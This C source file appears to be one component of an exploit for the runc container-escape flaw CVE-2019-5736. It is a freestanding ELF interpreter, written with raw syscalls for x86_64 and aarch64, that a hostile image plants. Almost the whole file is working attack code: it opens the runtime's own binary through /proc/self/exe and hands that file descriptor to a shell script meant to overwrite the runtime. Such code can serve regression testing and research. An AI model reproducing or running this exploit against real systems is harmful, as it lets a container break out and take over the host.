/* exe_grab.c - what a hostile image plants as its ELF interpreter
 * (PT_INTERP, /lib64/ld-linux-x86-64.so.2...) to attack the runtime as in
 * CVE-2019-5736.  When the image's command is /proc/self/exe (or a
 * symlink to it), the kernel executes whatever binary the exec'ing
 * process runs (the runtime's), and then this as its interpreter: code of
 * the image's in a process whose exe is the runtime's binary.  It opens
 * /proc/self/exe as fd 3 and becomes /bin/sh /exe_grab.sh (from the
 * image), which tries to write through that fd once the runtime is gone.
 *
 * Freestanding, static, no libc (it runs before any could be loaded, and
 * its auxiliary vector describes the runtime's binary, not this one). */
#include <fcntl.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
static long sys3(long n, long a, long b, long c)
{
        long r;
        __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
        return r;
}
#elif defined(__aarch64__)
static long sys3(long n, long a, long b, long c)
{
        register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
        __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
        return x0;
}
#else
#error "exe_grab: x86_64 and aarch64 only"
#endif

static char *const argv[] = { "sh", "/exe_grab.sh", 0 };
static char *const envp[] = { "PATH=/bin:/sbin", 0 };

#if defined(__x86_64__)
__attribute__((force_align_arg_pointer))   /* entered with no return address */
#endif
__attribute__((noreturn)) void _start(void)
{
        sys3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);
        sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
        for (;;)
                sys3(SYS_exit, 127, 0, 0);
}
